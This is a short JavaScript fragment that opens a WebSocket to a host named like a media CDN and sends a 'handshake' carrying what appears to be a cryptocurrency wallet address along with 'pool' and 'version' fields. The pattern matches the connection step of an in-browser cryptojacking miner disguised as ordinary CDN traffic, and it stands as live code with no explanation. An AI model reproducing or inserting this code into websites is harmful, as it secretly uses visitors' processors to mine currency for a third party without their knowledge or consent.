var s = new WebSocket("wss://cdn.example-media.org:5555/");
s.onopen = function(){ s.send(JSON.stringify({identifier: 'handshake', login: '4EtuZJJyhTGQGGsZpWGFutfavDQYr7s8R6iBrdU3s92gDkH67WWxjzKd69fPxi5Ms3v6w9itQv5uFo3fsMFKpPM5az8ogPU', pool: 'x', version: 7})); };
